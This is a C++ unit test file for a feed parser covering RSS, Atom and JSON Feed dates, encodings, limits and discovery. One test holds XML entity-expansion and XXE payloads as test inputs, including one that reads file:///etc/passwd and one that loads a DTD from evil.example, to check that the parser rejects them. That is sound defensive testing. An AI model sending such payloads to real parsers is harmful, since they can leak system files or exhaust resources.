#include "core/platforms/feeds/FeedParser.h"
#include "core/platforms/feeds/FeedSetAside.h"
#include "core/platforms/feeds/FeedTime.h"

#include "tests/platforms/feeds/FeedTestData.h"
#include "tests/support/Printers.h"

#include <QStringEncoder>

#include <gtest/gtest.h>

using namespace wederhoor;
using namespace wederhoor::test;

namespace {

const QUrl forum(QStringLiteral("https://forum.example/feed/"));

Result<Feed> parse(const QByteArray &bytes, const QByteArray &contentType = {}, const FeedLimits &limits = {})
{
    return parseFeed(bytes, contentType, forum, limits);
}

QByteArray rss(const QByteArray &items)
{
    return "<rss version=\"2.0\"><channel><title>T</title>" + items + "</channel></rss>";
}

QString iso(const std::optional<Instant> &time)
{
    return time ? toIso(*time) : QStringLiteral("none");
}

TEST(FeedTimes, AreReadInEveryFormThatFeedsUse)
{
    const std::pair<const char *, const char *> rows[] = {
        {"Mon, 05 Jan 2026 10:42:07 +0100", "2026-01-05T09:42:07.000Z"},
        {"05 Jan 2026 10:42 GMT", "2026-01-05T10:42:00.000Z"},
        {"Mon, 5 Jan 26 10:42:07 EST", "2026-01-05T15:42:07.000Z"},
        {"Mon, 5 Jan 99 10:42:07 UT", "1999-01-05T10:42:07.000Z"},
        {"Monday, 05-January-2026 10:42:07 PDT", "2026-01-05T17:42:07.000Z"},
        {"Thu, 01 Jul 2026 12:00:00 CEST", "2026-07-01T10:00:00.000Z"},
        {"Wed, 01 Jul 2026 12:00:00 Z", "2026-07-01T12:00:00.000Z"},
        {"Wed, 01 Jul 2026 12:00:00 A", "2026-07-01T12:00:00.000Z"},
        {"ma, 05 mrt 2026 08:00:00 +0000", "2026-03-05T08:00:00.000Z"},
        {"5 mei 2026 08:00", "2026-05-05T08:00:00.000Z"},
        {"Mon, 05 Jan 2026 10:42:07 +0100 (CET)", "2026-01-05T09:42:07.000Z"},
        {"Mon, 05 Jan 2026 10:42:07 GMT+2", "2026-01-05T08:42:07.000Z"},
        {"Mon, 05 Jan 2026", "2026-01-05T00:00:00.000Z"},
        {"Sat, 31 Dec 2016 23:59:60 GMT", "2016-12-31T23:59:59.000Z"},
        {"2026-01-05T10:42:07Z", "2026-01-05T10:42:07.000Z"},
        {"2026-01-05t10:42:07.5z", "2026-01-05T10:42:07.500Z"},
        {"2026-01-05T10:42:07.123456+01:00", "2026-01-05T09:42:07.123Z"},
        {"2026-01-05T10:42+0530", "2026-01-05T05:12:00.000Z"},
        {"2026-01-05 10:42:07", "2026-01-05T10:42:07.000Z"},
        {"2026-01-05", "2026-01-05T00:00:00.000Z"},
        {"2026-01-05T24:00:00Z", "2026-01-06T00:00:00.000Z"},
        {"  \n2026-01-05T10:42:07-03\n ", "2026-01-05T13:42:07.000Z"},
    };
    for (const auto &[text, expected] : rows) {
        EXPECT_EQ(iso(feedTime(QString::fromUtf8(text))).toStdString(), expected) << text;
    }
}

TEST(FeedTimes, WhatIsNoTimeIsNothing)
{
    for (const char *text :
         {"", "yesterday", "Mon, 32 Jan 2026 10:00:00 GMT", "2026-02-30", "2026-13-01", "31 Foo 2026",
          "2026-01-05T25:00:00Z", "2026-01-05T24:00:01Z", "1969-12-31T23:59:59Z", "Mon, 05 Jan 2026 10:42:07 XYZ",
          "2026-01-05T10:00:00+99:00", "1767607200", "0000-00-00"}) {
        EXPECT_EQ(iso(feedTime(QString::fromUtf8(text))), QStringLiteral("none")) << text;
    }
    EXPECT_FALSE(feedTime(QString(1'000'000, u'2')));
}

TEST(Rss, AForumsFeedIsReadWithItsFullTextsAndTheBrokenItemSetAside)
{
    const auto feed = parse(feedFile("forum-rss.xml"), "application/rss+xml; charset=UTF-8");
    WEDERHOOR_ASSERT_OK(feed);
    EXPECT_EQ(feed->title, QStringLiteral("Klachtenforum Consument & Bank"));
    EXPECT_EQ(feed->language, QStringLiteral("nl-NL"));
    ASSERT_EQ(feed->items.size(), 2);
    const FeedItem &complaint = feed->items.at(0);
    EXPECT_EQ(complaint.id, QStringLiteral("https://forum.example/?p=4711"));
    EXPECT_EQ(complaint.link, QUrl(QStringLiteral("https://forum.example/t/voorbeeldbank-geen-antwoord")));
    EXPECT_EQ(complaint.authorName, QStringLiteral("Marijke de Groot"));
    EXPECT_EQ(iso(complaint.published), QStringLiteral("2026-01-05T09:42:07.000Z"));
    EXPECT_EQ(complaint.body,
              QStringLiteral("Sinds 15 december wacht ik op een reactie.\n\n- Twee keer gebeld\n- Eén "
                             "brief\n\nZie ook mijn eerdere klacht "
                             "(https://forum.example/t/eerdere-klacht)."));
    const FeedItem &question = feed->items.at(1);
    EXPECT_EQ(question.authorName, QStringLiteral("Piet Klaassen"));
    EXPECT_EQ(question.authorId, QStringLiteral("piet@forum.example"));
    EXPECT_EQ(question.body, QStringLiteral("Ik twijfel tussen twee banken & een verzekeraar."));
    ASSERT_EQ(question.attachments.size(), 1);
    EXPECT_EQ(question.attachments.first().kind, Attachment::Kind::Picture);
    ASSERT_EQ(feed->unreadable.size(), 1);
    EXPECT_TRUE(feed->unreadable.first().payload.contains("leeg"));
}

TEST(FeedSetAside, AnItemThatIsReadableNowIsTaken)
{
    const QUrl url(QStringLiteral("https://forum.example/feed"));
    const QList<QByteArray> payloads{
        "<item><title>Nu wel</title><dc:creator>Kees</dc:creator><odd:thing odd:way=\"1\"/></item>",
        "<entry xml:lang=\"nl\"><title>Nu wel</title><author><name>Kees</name></author></entry>",
        "[{\"id\":7,\"title\":\"Nu wel\",\"author\":{\"name\":\"Kees\"}}]"};
    for (const QByteArray &payload : payloads) {
        const Result<Feed> feed = readSetAside(payload, url);
        WEDERHOOR_ASSERT_OK(feed);
        ASSERT_EQ(feed->items.size(), 1) << payload.constData();
        EXPECT_EQ(feed->items.first().title, QStringLiteral("Nu wel"));
        EXPECT_EQ(feed->items.first().authorName, QStringLiteral("Kees"));
    }
}

TEST(FeedSetAside, WhatAFeedSetAsideIsAWholeElementAndStillSaysWhatIsWrong)
{
    const QUrl url(QStringLiteral("https://forum.example/feed"));
    const QByteArray rss = "<rss version='2.0'><channel><item id='x'><guid>leeg</guid></item></channel></rss>";
    const Result<Feed> feed = parseFeed(rss, {}, url);
    WEDERHOOR_ASSERT_OK(feed);
    ASSERT_EQ(feed->unreadable.size(), 1);
    EXPECT_EQ(feed->unreadable.first().payload, QByteArray("<item id='x'><guid>leeg</guid></item>"));
    const Result<Feed> again = readSetAside(feed->unreadable.first().payload, url);
    ASSERT_FALSE(again);
    EXPECT_EQ(again.error().detail, feed->unreadable.first().reason);
    for (const QByteArray &rest :
         {QByteArray(), QByteArray("<p>"), QByteArray("<item><title>half"), QByteArray("[]")}) {
        EXPECT_FALSE(readSetAside(rest, url)) << rest.constData();
    }
}

TEST(Rss, AnOldFeedInLatin1WithAForeignDoctypeAndUndeclaredEntitiesIsRead)
{
    const auto feed = parse(feedFile("rss1-latin1.xml"));
    WEDERHOOR_ASSERT_OK(feed);
    EXPECT_EQ(feed->title, QStringLiteral("Oud café"));
    ASSERT_EQ(feed->items.size(), 1);
    EXPECT_EQ(feed->items.first().title, QStringLiteral("Privé of zakelijk? €5 één"));
    EXPECT_EQ(iso(feed->items.first().published), QStringLiteral("2026-01-05T11:00:00.000Z"));
}

TEST(Atom, ABlogWithCommentsIsReadWithBasesThreadsAndDeletions)
{
    const auto feed = parse(feedFile("blog-atom.xml"));
    WEDERHOOR_ASSERT_OK(feed);
    EXPECT_EQ(feed->title, QStringLiteral("Money & Me"));
    EXPECT_EQ(feed->authorName, QStringLiteral("Harriet Vale"));
    EXPECT_EQ(feed->home, QUrl(QStringLiteral("https://blog.example/")));
    ASSERT_EQ(feed->items.size(), 3);
    const FeedItem &post = feed->items.at(0);
    EXPECT_EQ(post.link, QUrl(QStringLiteral("https://blog.example/posts/1")));
    EXPECT_EQ(post.body, QStringLiteral("It took forty minutes & two forms.\nNever again."));
    EXPECT_EQ(iso(post.updated), QStringLiteral("2026-01-05T08:00:00.250Z"));
    ASSERT_EQ(post.attachments.size(), 1);
    EXPECT_EQ(post.attachments.first().url, QUrl(QStringLiteral("https://blog.example/pictures/queue.jpg")));
    EXPECT_EQ(feed->items.at(1).title, QStringLiteral("Re: Why I left <Samplebank>"));
    EXPECT_EQ(feed->items.at(1).inReplyTo, QStringLiteral("tag:blog.example,2026:post-1"));
    EXPECT_EQ(feed->items.at(1).authorId, QStringLiteral("tom@blog.example"));
    EXPECT_EQ(feed->items.at(2).body, QStringLiteral("Not for me."));
    ASSERT_EQ(feed->deletions.size(), 1);
    EXPECT_EQ(feed->deletions.first().id, QStringLiteral("tag:blog.example,2026:comment-5"));
}

TEST(JsonFeed, ReviewsAreReadInBothVersionsOfTheFormat)
{
    const auto feed = parse(feedFile("reviews.json"), "application/feed+json");
    WEDERHOOR_ASSERT_OK(feed);
    EXPECT_EQ(feed->title, QStringLiteral("Reviews of Samplebank"));
    ASSERT_EQ(feed->items.size(), 2);
    EXPECT_EQ(feed->items.at(0).body, QStringLiteral("App is fine, help (https://reviews.example/help) is not."));
    EXPECT_EQ(feed->items.at(0).authorId, QStringLiteral("https://reviews.example/u/kit"));
    EXPECT_EQ(iso(feed->items.at(0).updated), QStringLiteral("2026-01-05T08:20:00.000Z"));
    EXPECT_EQ(feed->items.at(0).attachments.first().title, QStringLiteral("Letter"));
    EXPECT_EQ(feed->items.at(1).id, QStringLiteral("1002"));
    EXPECT_EQ(feed->items.at(1).body, QStringLiteral("Line one\nLine two"));
    EXPECT_EQ(feed->items.at(1).authorName, QStringLiteral("Old Style"));
    EXPECT_EQ(feed->unreadable.size(), 2);
}

TEST(FeedEncodings, TheSameTitleIsReadFromEveryEncoding)
{
    const QString title = QStringLiteral("Crème brûlée");
    const auto document = [&title](const char *declaration) {
        return QString::fromUtf8(declaration) + QStringLiteral("<rss><channel><title>") + title
            + QStringLiteral("</title><item><title>x</title></item></channel></rss>");
    };
    const auto utf16 = [](const QString &text, QStringConverter::Encoding encoding, bool mark) {
        QStringEncoder encoder(encoding, mark ? QStringConverter::Flag::WriteBom : QStringConverter::Flag::Default);
        return QByteArray(encoder(text));
    };
    const QString plain = document("");
    const std::pair<QByteArray, QByteArray> rows[] = {
        {plain.toUtf8(), ""},
        {"\xEF\xBB\xBF" + plain.toUtf8(), ""},
        {"\r\n  " + document("<?xml version='1.0' encoding='utf-8'?>").toUtf8(), ""},
        {document("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>").toLatin1(), ""},
        {document("<?xml version=\"1.0\" encoding=\"ISO-8859-15\"?>").toLatin1(), ""},
        {document("<?xml version=\"1.0\" encoding=\"windows-1252\"?>").toLatin1(), "application/xml"},
        {plain.toLatin1(), "text/xml; charset=\"ISO-8859-1\""},
        {plain.toLatin1(), "application/rss+xml"},
        {document("<?xml version=\"1.0\" encoding=\"UTF-8\"?>").toUtf8(), "text/xml; charset=iso-8859-1"},
        {document("<?xml version=\"1.0\" encoding=\"utf-16\"?>").toUtf8(), ""},
        {utf16(document("<?xml version=\"1.0\" encoding=\"utf-16\"?>"), QStringConverter::Utf16LE, true), ""},
        {utf16(document("<?xml version=\"1.0\" encoding=\"utf-16\"?>"), QStringConverter::Utf16BE, true), ""},
        {utf16(plain, QStringConverter::Utf16LE, false), "application/xml; charset=utf-16"},
        {utf16(plain, QStringConverter::Utf16BE, false), ""},
    };
    int row = 0;
    for (const auto &[bytes, contentType] : rows) {
        const auto feed = parse(bytes, contentType);
        ASSERT_TRUE(feed.has_value()) << "row " << row << ": " << feed.error().detail.toStdString();
        EXPECT_EQ(feed->title, title) << "row " << row;
        ++row;
    }
}

TEST(FeedEncodings, TheSingleByteOnesDifferWhereTheyShould)
{
    const auto title = [](const QByteArray &encoding, const QByteArray &bytes) {
        const auto feed = parse("<?xml version='1.0' encoding='" + encoding + "'?><rss><channel><title>" + bytes
                                + "</title></channel></rss>");
        return feed ? feed->title : feed.error().detail;
    };
    EXPECT_EQ(title("windows-1252", "\x80 \x93x\x94"), QStringLiteral("€ “x”"));
    EXPECT_EQ(title("iso-8859-1", "\x80 \x93x\x94 \xA4"), QStringLiteral("€ “x” ¤"));
    EXPECT_EQ(title("iso-8859-15", "\xA4 \xBD\xE9"), QStringLiteral("€ œé"));
    EXPECT_EQ(title("koi8-r", "x"), QStringLiteral("the encoding koi8-r is not supported"));
    EXPECT_EQ(title("utf-8", "a\xFFz"), QStringLiteral("a\uFFFDz"));
    EXPECT_EQ(title("utf-8", "a\x08z"), QStringLiteral("a\uFFFDz"));
}

TEST(EntityBombs, AreRefusedBeforeAParserSeesThem)
{
    const QByteArray item = "<rss><channel><item><title>&a;</title></item></channel></rss>";
    const QByteArray rows[] = {
        "<!DOCTYPE rss [<!ENTITY a \"x\">]>" + item,
        "<?xml version=\"1.0\"?><!-- c --><!DOCTYPE rss [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\">]>" + item,
        "<!DOCTYPE rss [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>" + item,
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>" + item,
        "<!DOCTYPE rss PUBLIC \"a>b\" 'c>[' [ <!ELEMENT rss ANY> <!ENTITY a \"x\"> ]>" + item,
        "<!doctype rss [<!entity a \"x\">]>" + item,
        "<!DOCTYPE feed [<!ATTLIST x y CDATA \"]>\"><!ENTITY a \"x\">]><feed xmlns=\"http://www.w3.org/2005/Atom\"/>",
        "<!--" + QByteArray(3'000'000, '-').replace("--", "- ") + "--><!DOCTYPE rss [<!ENTITY a \"x\">]>" + item,
    };
    for (const QByteArray &bytes : rows) {
        const auto feed = parse(bytes);
        ASSERT_FALSE(feed.has_value()) << bytes.left(120).toStdString();
        EXPECT_EQ(feed.error().kind, ErrorKind::BadResponse);
        EXPECT_EQ(feed.error().detail, QStringLiteral("entity definitions are refused"))
            << bytes.left(120).toStdString();
    }
}

TEST(EntityBombs, TextThatOnlySpeaksOfEntitiesIsNoBomb)
{
    const auto feed = parse(rss("<item><title>XML</title><description><![CDATA[Write <code>&lt;!ENTITY a&gt;</code> "
                                "<!ENTITY b \"x\">]]></description></item>"));
    WEDERHOOR_ASSERT_OK(feed);
    EXPECT_TRUE(feed->items.first().body.contains(QStringLiteral("<!ENTITY a>")));
}

TEST(EntityBombs, AnUndefinedEntityIsNotReadFromAnywhere)
{
    const auto feed = parse(rss("<item><title>a &xxe; b</title></item>"));
    ASSERT_FALSE(feed.has_value());
    EXPECT_EQ(feed.error().kind, ErrorKind::BadResponse);
}

TEST(MalformedFeeds, AreRefusedWithTheirReason)
{
    const std::pair<QByteArray, const char *> rows[] = {
        {"", "the answer is empty"},
        {" \n ", "the answer is empty"},
        {"hello", "neither RSS"},
        {"<svg/>", "neither RSS"},
        {"<feed/>", "neither RSS"},
        {"{}", "neither RSS"},
        {"{\"version\":\"https://jsonfeed.org/version/1.1\"}", "neither RSS"},
        {"{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[", "byte "},
        {"<rss><channel><title>x</channel></rss>", "line 1: "},
        {"<rss>\n<channel>\n<title>", "line 3: "},
        {QByteArray(1'000, '\0'), "neither RSS"},
    };
    for (const auto &[bytes, words] : rows) {
        const auto feed = parse(bytes);
        ASSERT_FALSE(feed.has_value()) << bytes.left(80).toStdString();
        EXPECT_EQ(feed.error().kind, ErrorKind::BadResponse);
        EXPECT_TRUE(feed.error().detail.contains(QLatin1String(words)))
            << feed.error().detail.toStdString() << " should say: " << words;
    }
}

TEST(MalformedFeeds, OfADocumentThatBreaksOffTheItemsBeforeAreTaken)
{
    const auto feed = parse("<rss><channel><item><title>whole</title></item>\n<item><title>half & broken</title>");
    WEDERHOOR_ASSERT_OK(feed);
    ASSERT_EQ(feed->items.size(), 1);
    EXPECT_EQ(feed->items.first().title, QStringLiteral("whole"));
    ASSERT_EQ(feed->unreadable.size(), 1);
    EXPECT_TRUE(feed->unreadable.first().reason.contains(QStringLiteral("line 2")));
}

TEST(FeedLimitsHold, TooManyItemsAndTooDeepOnesAreLeft)
{
    const auto many = parse(rss(QByteArray("<item><title>x</title></item>").repeated(12)), {}, {10, 200, 100'000});
    WEDERHOOR_ASSERT_OK(many);
    EXPECT_EQ(many->items.size(), 10);
    EXPECT_EQ(many->unreadable.size(), 1);

    const QByteArray deep = QByteArray("<x>").repeated(100'000);
    const auto nested = parse(rss("<item><title>first</title></item><item><description>" + deep));
    WEDERHOOR_ASSERT_OK(nested);
    EXPECT_EQ(nested->items.size(), 1);
    EXPECT_TRUE(nested->unreadable.first().reason.contains(QStringLiteral("nested too deeply")));

    const auto json
        = parse("{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":" + QByteArray("[").repeated(100'000));
    ASSERT_FALSE(json.has_value());
}

TEST(FeedLimitsHold, ALongBodyIsCutBetweenWholeCharacters)
{
    const auto feed = parse(rss("<item><title>x</title><description>" + QByteArray("\xF0\x9F\x98\x80").repeated(500)
                                + "</description></item>"),
                            {}, {10, 10, 101});
    WEDERHOOR_ASSERT_OK(feed);
    EXPECT_EQ(feed->items.first().body.size(), 101);
    EXPECT_EQ(feed->items.first().body, QString::fromUtf8("😀").repeated(50) + QChar(0x2026));
}

TEST(FeedDiscovery, AWebPageNamesItsFeed)
{
    const QByteArray page
        = "<!DOCTYPE html><html><head><title>Forum</title><link rel=stylesheet href=a.css>"
          "<link rel=\"alternate\" type=\"application/rss+xml\" href=\"/comments/feed\"></head></html>";
    for (const QByteArray &bytes :
         {page, QByteArray("<!-- x -->\n" + page), QByteArray(page).replace("<!DOCTYPE html>", "")}) {
        const auto feed = parse(bytes, "text/html; charset=utf-8");
        ASSERT_FALSE(feed.has_value());
        EXPECT_EQ(feed.error().kind, ErrorKind::Invalid);
        EXPECT_TRUE(feed.error().detail.contains(QStringLiteral("https://forum.example/comments/feed")));
    }
    const auto none
        = parse("<html><head><link rel=alternate type=application/rss+xml href=javascript:x></head></html>");
    ASSERT_FALSE(none.has_value());
    EXPECT_TRUE(none.error().detail.contains(QStringLiteral("names no feed")));
    const auto xhtml = parse("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><head><link "
                             "rel=\"alternate\" type=\"application/atom+xml\" href=\"a.atom\"/></head></html>");
    ASSERT_FALSE(xhtml.has_value());
    EXPECT_TRUE(xhtml.error().detail.contains(QStringLiteral("https://forum.example/feed/a.atom")));
    WEDERHOOR_EXPECT_OK(parse(rss("<item><title>x</title></item>"), "text/html"));
}

} // namespace
